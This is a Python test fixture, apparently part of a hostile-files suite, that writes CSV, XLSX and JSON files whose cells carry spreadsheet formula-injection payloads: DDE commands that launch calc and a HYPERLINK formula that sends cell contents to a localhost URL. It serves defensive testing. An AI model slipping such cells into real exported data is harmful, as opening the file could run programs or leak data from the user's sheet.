"""Cells that a spreadsheet would run when somebody opens the list again."""

from __future__ import annotations

import json

from tests.extraction.office.books import workbook
from tests.hostile.files import BadFile, Canary

CELLS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://127.0.0.1/?"&A1,"a name")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
"""One of each sign that makes a cell a formula (OWASP, CSV Injection)."""

_QUOTED = tuple('"' + cell.replace('"', '""') + '"' for cell in CELLS)


def separated(_: Canary) -> bytes:
    return ("name\n" + "\n".join(_QUOTED) + "\n").encode()


def sheet(_: Canary) -> bytes:
    """Cells that are texts and begin as formulas do."""
    rows = []
    for number, cell in enumerate(CELLS, 1):
        said = cell.replace("&", "&amp;").replace("\r", "_x000D_")
        text = f'<is><t xml:space="preserve">{said}</t></is>'
        rows.append(f'<row r="{number}"><c r="A{number}" t="inlineStr">{text}</c></row>')
    return workbook("".join(rows))


def records(_: Canary) -> bytes:
    return json.dumps([{"name": cell} for cell in CELLS]).encode()


def rows(cells: tuple[str, ...]) -> str:
    """Give the text of a table of one column."""
    return "".join(f"{cell}\x1f\x1e" for cell in cells)


FILES = (
    BadFile("cells.csv", separated, "read", text=rows(("name", *CELLS))),
    BadFile(
        "cells.xlsx",
        sheet,
        "read",
        ("cells would fetch data or start a program",),
        text=rows(CELLS).replace("\r", "\n"),
    ),
    BadFile("cells.json", records, "read", text=rows(("name", *CELLS))),
)
